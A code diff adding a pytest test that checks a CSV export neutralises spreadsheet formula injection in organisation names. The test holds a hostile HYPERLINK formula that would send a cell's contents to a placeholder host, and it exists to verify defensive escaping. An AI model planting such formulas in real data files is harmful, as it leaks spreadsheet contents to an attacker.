@@ -240,3 +240,25 @@ def test_cli_draws_the_map(app, history, tmp_path):
 
     assert result.exit_code == 0, result.output
     assert Image.open(path).size == (900, 900)
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x/?d="&A1,"Click")'
+
+
+@pytest.mark.parametrize("open_data", ["false", "true"])
+def test_a_hostile_organisation_name_cannot_run_as_a_formula_in_needs_csv(
+    client, admin, session_factory, directory, history, open_data
+):
+    from directory.models import Organisation
+
+    with session_factory() as session:
+        session.get(Organisation, directory["hub"]).name = HOSTILE_NAME
+        session.commit()
+
+    text = get(client, admin, format="csv", open_data=open_data).get_data(as_text=True)
+
+    hub_rows = [row for row in csv.DictReader(io.StringIO(text)) if row["area_type"] == "hub"]
+    assert hub_rows
+    assert {row["area_name"] for row in hub_rows} == {"'" + HOSTILE_NAME}
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
